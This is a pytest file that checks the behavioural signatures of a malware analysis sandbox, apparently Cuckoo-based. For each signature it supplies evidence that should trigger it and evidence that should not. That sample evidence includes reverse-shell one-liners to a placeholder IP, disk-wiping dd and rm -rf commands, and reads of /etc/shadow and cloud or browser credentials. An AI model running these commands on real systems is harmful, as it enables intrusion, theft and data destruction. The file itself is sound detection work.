"""Each signature fires on its evidence, and only then."""

from __future__ import annotations

import math
from typing import Any

import msgspec
import pytest

from cuckoo_api.reporting.bounds import Notes
from cuckoo_api.reporting.signatures import Facts, Fired, Signature, mark, matching, score, scoring
from cuckoo_api.reporting.signatures.builtin import SIGNATURES
from cuckoo_api.reporting.signatures.matching import match_signatures

pytestmark = pytest.mark.slow


def facts(*, category: str = "file", target: str = "s.sh", **parts: Any) -> Facts:
    summary = parts.pop("summary", {})
    process = {"pid": 5, "process_name": "sh", "process_path": parts.pop("program", "/bin/sh")}
    calls = parts.pop("calls", [])
    behavior = {
        "generic": [process | {"summary": summary}, *parts.pop("generic", [])],
        "processes": [process | {"calls": calls}],
        "apistats": {"5": {call["api"]: 1 for call in calls}},
        "summary": summary,
    }
    whole = {"category": category, "target": target, "behavior": behavior, **parts}
    return msgspec.json.decode(msgspec.json.encode(whole), type=Facts)


def fired(found: Facts) -> set[str]:
    notes = Notes()
    names = {item["name"] for item in match_signatures(found, notes, SIGNATURES)}
    assert notes.lines == []
    return names


def wrote(*paths: str) -> dict[str, Any]:
    return {"summary": {"file_written": list(paths)}}


def read(*paths: str) -> dict[str, Any]:
    return {"summary": {"file_read": list(paths)}}


def ran(*lines: str) -> dict[str, Any]:
    return {"summary": {"command_line": list(lines)}}


def started(line: str, **autostart: Any) -> dict[str, Any]:
    return {"pid": 6, "command_line": line, "autostart": autostart or None}


def call(api: str, **arguments: str) -> dict[str, Any]:
    return {"calls": [{"api": api, "status": 1, "arguments": arguments}]}


def asked(*names: str, answered: bool = True) -> dict[str, Any]:
    answers = [{"type": "A", "data": "192.0.2.1"}] if answered else []
    return {"network": {"dns": [{"request": name, "answers": answers} for name in names]}}


def spoke(*ports: int) -> dict[str, Any]:
    return {"network": {"tcp": [{"dst": "192.0.2.7", "dport": port} for port in ports]}}


def section(entropy: float) -> dict[str, Any]:
    return {"pe_sections": [{"name": ".text", "entropy": entropy, "flags": ["EXECUTE", "READ"]}]}


DOWNLOAD = {"method": "GET", "uri": "http://e/x", "status": 200, "response_size": 9}
PACKED_ELF = {"elf": {"sections": [{"name": ".x", "entropy": 7.9, "flags": ["EXECINSTR"]}]}}
MATCH = {"name": "demo", "meta": {}}
RANDOM = [f"{n}qzxk.test" for n in range(12)]

CASES: list[tuple[str, dict[str, Any], dict[str, Any]]] = [
    (
        "persistence_cron",
        wrote("/etc/cron.d/job"),
        {"summary": {"file_read": ["/etc/cron.d/job"], "file_written": ["/tmp/etc/cron.d/x"]}},
    ),
    (
        "persistence_shell",
        {"summary": {"file_moved": [["/tmp/x", "/root/.profile"]]}},
        {"summary": {"file_moved": [["/root/.profile", "/tmp/x"]]}},
    ),
    (
        "persistence_systemd",
        {"summary": {"file_created": ["/etc/systemd/system/x.service"]}},
        {"summary": {"file_created": ["/etc/systemd/journald.conf"]}},
    ),
    ("persistence_init", wrote("/etc/rc.local"), wrote("/etc/rc.locale")),
    (
        "persistence_preload",
        wrote("/etc/ld.so.preload"),
        {"summary": {"file_failed": ["/etc/ld.so.preload"]}},
    ),
    (
        "persistence_ssh_key",
        wrote("/home/u/.ssh/authorized_keys"),
        wrote("/home/u/.ssh/known_hosts"),
    ),
    ("persistence_pam", wrote("/etc/pam.d/sshd"), read("/etc/pam.d/sshd")),
    ("persistence_udev", wrote("/etc/udev/rules.d/9.rules"), wrote("/etc/udev/udev.conf")),
    (
        "persistence_autostart",
        wrote("/home/u/.config/autostart/x.desktop"),
        wrote("/home/u/.config/x.desktop"),
    ),
    ("persistence_user", ran("/usr/sbin/useradd -m x"), ran("useradd --help", "grep useradd x")),
    (
        "started_by_itself",
        {"generic": [started("/usr/local/bin/x", by="cron", restored=True)]},
        {"generic": [started("/usr/sbin/cron", by="cron", restored=False), started("/x")]},
    ),
    (
        "self_delete",
        {"summary": {"command_line": ["/tmp/s.sh"], "file_deleted": ["/tmp/s.sh"]}},
        {"summary": {"command_line": ["/tmp/s.sh"], "file_deleted": ["/tmp/other.sh"]}},
    ),
    (
        "mass_file_change",
        {"summary": {"file_moved": [[f"/d/{n}", f"/d/{n}.locked"] for n in range(60)]}},
        {"summary": {"file_moved": [[f"/d/{n}", f"/d/{n}.locked"] for n in range(10)]}},
    ),
    (
        "executes_dropped",
        {"summary": {"dropped_executed": ["/tmp/tool"]}},
        {"summary": {"file_written": ["/tmp/tool"], "command_line": ["/bin/ls"]}},
    ),
    (
        "hidden_file",
        {"summary": {"file_created": ["/tmp/.x"]}},
        {"summary": {"file_created": ["/root/.bash_history", "/tmp/a.b", "/tmp/.sh/x"]}},
    ),
    (
        "setuid_file",
        {"summary": {"permissions_changed": ["04755 /tmp/sh"]}},
        {"summary": {"permissions_changed": ["0755 /tmp/sh", "04600 /tmp/x", "? /tmp/y"]}},
    ),
    (
        "executable_in_temporary",
        {"summary": {"permissions_changed": ["0755 /dev/shm/x"]}},
        {"summary": {"permissions_changed": ["0600 /tmp/x", "0755 /usr/bin/x"]}},
    ),
    ("immutable_file", ran("chattr +i /etc/cron.d/x"), ran("chattr -i /etc/x", "lsattr +i")),
    ("timestomp", ran("touch -r /bin/ls /tmp/x"), ran("touch /tmp/-r", "touch -c /tmp/x")),
    (
        "ransom_note",
        {"summary": {"file_created": ["/home/u/HOW_TO_DECRYPT.txt"]}},
        {"summary": {"file_created": ["/home/u/README.txt", "/x/how-to-decrypt.c", "/x/help.md"]}},
    ),
    (
        "destroys_data",
        ran("dd if=/dev/zero of=/dev/sda bs=1M"),
        ran("dd if=/dev/zero of=/tmp/x", "rm -rf /tmp/x", "ls shred"),
    ),
    (
        "reads_shadow",
        read("/etc/shadow"),
        read("/etc/passwd"),
    ),
    (
        "reads_credentials",
        {"summary": {"file_failed": ["/root/.aws/credentials"]}},
        read("/root/.ssh/known_hosts", "/root/.ssh/id_rsa.pub"),
    ),
    (
        "reads_browser_secrets",
        read("/home/u/.config/google-chrome/Default/Login Data"),
        read("/home/u/Login Data"),
    ),
    ("reads_history", read("/root/.bash_history"), read("/root/.bashrc")),
    (
        "system_discovery",
        ran("uname -a", "id", "cat /etc/passwd"),
        ran("uname -a", "uname -m", "cat /etc/hostname"),
    ),
    (
        "network_download",
        ran("wget -q -O /tmp/p http://e/p"),
        ran("wget --version", "echo wget http://e/p"),
    ),
    (
        "kernel_module_load",
        {"summary": {"module_loaded": ["/tmp/rootkit.ko"]}},
        ran("modprobe -r loop", "lsmod"),
    ),
    (
        "disables_history",
        ran("sh -c 'unset HISTFILE; id'"),
        ran("grep history notes", "HISTFILE=/root/.h bash"),
    ),
    (
        "deletes_logs",
        {"summary": {"file_deleted": ["/var/log/auth.log"]}},
        {"summary": {"file_deleted": ["/var/log/mine.log"], "file_written": ["/var/log/syslog"]}},
    ),
    (
        "disables_security",
        ran("systemctl --now disable firewalld"),
        ran("systemctl status firewalld", "iptables -L", "setenforce 1"),
    ),
    ("kills_processes", ran("pkill -9 xmrig"), ran("pkill", "pgrep xmrig")),
    ("shuts_down", ran("/sbin/reboot"), ran("reboot --help", "init 3", "systemctl list-units")),
    (
        "container_escape",
        ran("nsenter -t 1 -m sh"),
        ran("docker ps", "nsenter --help"),
    ),
    ("changes_sudoers", wrote("/etc/sudoers.d/x"), read("/etc/sudoers")),
    (
        "debugger_check",
        call("ptrace", request="PTRACE_TRACEME"),
        call("ptrace", request="PTRACE_CONT"),
    ),
    (
        "process_injection",
        call("process_vm_writev", p0="7"),
        call("ptrace", request="PTRACE_TRACEME") | wrote("/proc/self/mem"),
    ),
    (
        "machine_check",
        read("/sys/class/dmi/id/product_name"),
        read("/sys/class/net/eth0/address"),
    ),
    ("long_sleep", ran("sleep 5m"), ran("sleep 30", "sleep infinity", "nosleep 90")),
    ("masquerade", ran("'[kworker/0:1]'"), ran("[ -f /x ]", "'[' -f /x ]", "x '[kworker]'")),
    (
        "fileless_execution",
        {"program": "/memfd:x"} | ran("x"),
        {"program": "/tmp/memfd"} | ran("/dev/fd/"),
    ),
    (
        "decodes_payload",
        ran("base64 -d /tmp/x"),
        ran("base64 /tmp/-d", "openssl enc -e -aes-256-cbc"),
    ),
    (
        "reverse_shell",
        ran("bash -c 'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1'"),
        ran("nc -zv host 22", "python3 -c 'import socket'", "ls /dev/tcp"),
    ),
    (
        "port_scan",
        {"summary": {"connects_host": [f"192.0.2.1:{port}" for port in range(30)]}},
        {"summary": {"connects_host": [f"192.0.2.1:{port}" for port in range(5)]}},
    ),
    (
        "crypto_miner",
        ran("/tmp/x -o stratum+tcp://pool.test:3333"),
        asked("supportxmr.com.example.test"),
    ),
    ("tor", asked("abcdef.onion"), asked("onion.test")),
    ("web_service", asked("api.telegram.org"), asked("telegram.org", "notpastebin.com")),
    (
        "http_to_address",
        {"network": {"http": [{"uri": "http://192.0.2.1:81/x", "host": "192.0.2.1:81"}]}},
        {"network": {"http": [{"uri": "http://e.test/x", "host": "e.test"}]}},
    ),
    ("irc", spoke(6667), spoke(6659, 443)),
    ("sends_mail", spoke(587), spoke(443)),
    ("generated_names", asked(*RANDOM, answered=False), asked(*RANDOM)),
    (
        "opens_port",
        {"summary": {"listens_on": ["0.0.0.0:4444"]}},
        {"summary": {"listens_on": ["127.0.0.1:4444", "[::1]:80"]}},
    ),
    ("yara_match", {"file": {"name": "x", "yara": [MATCH]}}, {"file": {"name": "x"}}),
    ("packed_program", {"static": section(7.8)}, {"static": section(6.5)}),
    (
        "broken_signature",
        {"static": {"pe_authenticode": {"verdict": "BAD_DIGEST BAD_SIGNATURE"}}},
        {"static": {"pe_authenticode": {"verdict": "OK"}}},
    ),
    (
        "obfuscated_script",
        {"static": {"script": {"encoded_blocks": 2, "notable": {"evaluates_text": 1}}}},
        {"static": {"script": {"encoded_blocks": 2, "notable": {}}}},
    ),
    (
        "double_extension",
        {"file": {"name": "invoice.pdf.exe"}},
        {"file": {"name": "tool.tar.gz"}, "dropped": [{"name": "a.min.js"}]},
    ),
]  # fmt: skip


def test_every_signature_has_a_case() -> None:
    assert [name for name, _, _ in CASES] == [kind.name for kind in SIGNATURES]


@pytest.mark.parametrize(("name", "yes", "no"), CASES, ids=[case[0] for case in CASES])
def test_it_fires_on_its_evidence_only(name: str, yes: dict[str, Any], no: dict[str, Any]) -> None:
    assert name in fired(facts(**yes))
    assert name not in fired(facts(**no))


@pytest.mark.parametrize(
    ("name", "parts"),
    [
        ("network_download", {
            "network": {"http": [DOWNLOAD]}, "dropped": [{"filepath": "/tmp/x", "size": 9}],
        }),
        ("self_delete", {"summary": {
            "command_line": ["/bin/sh ./s.sh"], "file_deleted": ["/tmp/s.sh"],
        }}),
        ("kernel_module_load", ran("/sbin/insmod ./x.ko")),
        ("disables_history", {"summary": {"file_linked": ["/root/.bash_history -> /dev/null"]}}),
        ("disables_history", {"summary": {"file_deleted": ["/root/.bash_history"]}}),
        ("mass_file_change", {"summary": {"file_deleted": [f"/d/{n}" for n in range(60)]}}),
        ("reads_shadow", {"summary": {"file_failed": ["/etc/gshadow"]}}),
        ("persistence_user", wrote("/etc/passwd")),
        ("destroys_data", ran("rm -rf --no-preserve-root /")),
        ("destroys_data", ran("shred -u /home/u/x")),
        ("disables_security", ran("iptables -t nat -F")),
        ("disables_security", ran("/usr/sbin/setenforce 0")),
        ("shuts_down", ran("systemctl poweroff")),
        ("container_escape", {"summary": {"file_failed": ["/var/run/docker.sock"]}}),
        ("process_injection", call("ptrace", request="PTRACE_ATTACH")),
        ("process_injection", wrote("/proc/77/mem")),
        ("debugger_check", ran("grep TracerPid /proc/self/status")),
        ("machine_check", ran("systemd-detect-virt")),
        ("masquerade", ran("[kworker]")),
        ("reverse_shell", ran("nc 192.0.2.1 4444 -e /bin/sh")),
        ("reverse_shell", ran("python3 -c 'import socket,pty;pty.spawn(\"/bin/sh\")'")),
        ("reverse_shell", ran("socat tcp:192.0.2.1:1 exec:/bin/sh")),
        ("port_scan", {"network": {"tcp": [
            {"dst": f"192.0.2.{n}", "dport": 23} for n in range(40)
        ]}}),
        ("crypto_miner", asked("eu.supportxmr.com")),
        ("tor", {"summary": {"connects_host": ["127.0.0.1:9050"]}}),
        ("yara_match", {"procmemory": [{"name": "7-1", "yara": [MATCH]}]}),
        ("packed_program", {"static": PACKED_ELF}),
        ("packed_program", {"static": {"peid_signatures": ["UPX"]}}),
        ("obfuscated_script", {"static": {"script": {"notable": {"runs_encoded_powershell": 1}}}}),
        ("obfuscated_script", {"static": {"script": {
            "longest_line": 9_000, "notable": {"decodes_base64": 1},
        }}}),
        ("double_extension", {"dropped": [{"name": "photo\u202egpj.exe"}]}),
    ],
)  # fmt: skip
def test_other_evidence_of_the_same(name: str, parts: dict[str, Any]) -> None:
    assert name in fired(facts(**parts))


@pytest.mark.parametrize(
    "parts",
    [
        # the answer was not written
        {"network": {"http": [DOWNLOAD]}, "dropped": [{"filepath": "/tmp/x", "size": 8}]},
        # it was not found
        {
            "network": {"http": [DOWNLOAD | {"status": 404}]},
            "dropped": [{"filepath": "/tmp/x", "size": 9}],
        },
        # the analyzer's own work
        {
            "category": "url",
            "target": "http://e/x",
            "summary": {"command_line": ["wget -- http://e/x"]},
        },
    ],
)
def test_what_is_no_download(parts: dict[str, Any]) -> None:
    assert "network_download" not in fired(facts(**parts))


def test_what_an_empty_report_says() -> None:
    assert fired(msgspec.json.decode(b"{}", type=Facts)) == set()
    damaged = {"pe_sections": None, "peid_signatures": None, "elf": {"sections": None}}
    assert fired(facts(static=damaged | {"pe_authenticode": None, "script": {}})) == set()


def test_the_evidence_names_the_process_and_comes_once() -> None:
    path = "/etc/cron.d/job"
    summary = {"file_created": [path], "file_written": [path]}

    [found] = match_signatures(facts(summary=summary), Notes(), SIGNATURES)

    assert found["marks"] == [
        {
            "type": "ioc",
            "category": "file",
            "ioc": path,
            "description": None,
            "pid": 5,
            "process_name": "sh",
        }
    ]
    assert (found["markcount"], found["severity"], found["ttp"]) == (1, 3, ["T1053.003"])
    assert found["references"] == ["https://attack.mitre.org/techniques/T1053/003/"]


def test_evidence_beyond_the_single_processes_counts_too() -> None:
    found = msgspec.json.decode(
        b'{"behavior": {"generic": [], "summary": {"file_written": ["/etc/rc.local"]}}}', type=Facts
    )

    assert fired(found) == {"persistence_init"}


class Broken(Signature):
    name = "broken"
    description = "Raises"
    severity = 1

    def marks(self, facts: Facts) -> list[dict[str, Any]]:
        raise RuntimeError("oh")


class Endless(Signature):
    name = "endless"
    description = "Never comes back"
    severity = 1

    def marks(self, facts: Facts) -> list[dict[str, Any]]:
        while True:
            pass


class Odd(Signature):
    name = "odd"
    description = "Has evidence that is none"
    severity = 1

    def marks(self, facts: Facts) -> list[dict[str, Any]]:
        return [mark("x", "y") | {"more": object()}]


def test_a_signature_that_fails_costs_only_itself(monkeypatch: pytest.MonkeyPatch) -> None:
    notes = Notes()

    found = match_signatures(facts(**read("/etc/shadow")), notes, [Broken, Odd, *SIGNATURES])

    assert [item["name"] for item in found] == ["reads_shadow"]
    assert notes.lines == [
        "signature broken: RuntimeError: oh",
        "signature odd: TypeError: Encoding objects of type object is unsupported",
    ]
    # alone: a loaded machine must not cost another one its time
    monkeypatch.setattr(matching, "SECONDS", 0.01)
    notes = Notes()
    assert match_signatures(facts(), notes, [Endless]) == []
    assert notes.lines == ["signature endless: TimeoutError: it took longer than 0.01 s"]


def test_when_the_time_is_over_the_rest_is_not_asked() -> None:
    notes = Notes()

    assert match_signatures(facts(**read("/etc/shadow")), notes, SIGNATURES, -math.inf) == []
    assert notes.lines == [f"signatures: the time was over; {len(SIGNATURES)} were not asked"]


def test_a_hostile_line_does_not_keep_the_signatures_busy() -> None:
    beginnings = ("socket exec sh ", "nc -e -e ", "how_to_how_to ", "docker -v ", "[a ", "'", "a/")
    lines = [(text * 4_096)[:4_096] for text in beginnings]
    summary = dict.fromkeys(("command_line", "file_created", "file_read", "file_deleted"), lines)

    # each has ten seconds, and a pattern that tries every way to match would take minutes
    fired(facts(summary=summary, file={"name": lines[2]}))


def test_the_score() -> None:
    assert score([]) == 0.0
    assert isinstance(score([]), float)
    assert score([1]) == 0.5
    assert score([2, 2]) == score([3]) == 3.0
    assert score([3] * 9) == 10.0


def test_the_score_is_explained() -> None:
    parts = scoring([Fired("a", 3), Fired("b", 1)])

    assert parts == [
        {"signature": "a", "severity": 3, "points": 3.0},
        {"signature": "b", "severity": 1, "points": 0.5},
    ]
    assert sum(part["points"] for part in parts) == score([3, 1])
